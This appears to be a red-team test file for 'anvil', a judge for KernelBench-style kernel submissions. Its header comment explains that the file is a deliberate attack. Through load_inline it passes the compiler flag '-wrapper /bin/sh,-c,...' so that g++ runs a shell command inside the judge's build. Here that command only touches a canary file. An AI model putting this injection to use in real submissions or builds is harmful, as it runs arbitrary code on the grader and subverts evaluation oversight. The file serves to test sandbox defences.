# ATTACK ON PURPOSE (red team, class "compiler flag injection"): a KernelBench single file whose
# load_inline passes `-wrapper /bin/sh,-c,PAYLOAD` as an extra flag: g++ runs PAYLOAD in place of
# its own tools, in the judge's build, as the judge's user. At c44fc9a anvil handed the flags to
# g++ unchanged and PAYLOAD ran unconfined.
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CANARY = "/var/tmp/anvil-redteam-wrapper-canary"
SOURCE = """
#include <torch/extension.h>
torch::Tensor twice(torch::Tensor x) { return x * 2; }
"""

ext = load_inline(name="redteam_wrapper", cpp_sources=[SOURCE], functions=["twice"],
                  extra_cflags=["-wrapper", "/bin/sh,-c,touch " + CANARY])


class ModelNew(nn.Module):
    def __init__(self, num_features, scale, clamp_min, clamp_max):
        super().__init__()
        self.bias = nn.Parameter(torch.empty(num_features))

    def forward(self, x):
        return ext.twice(x)
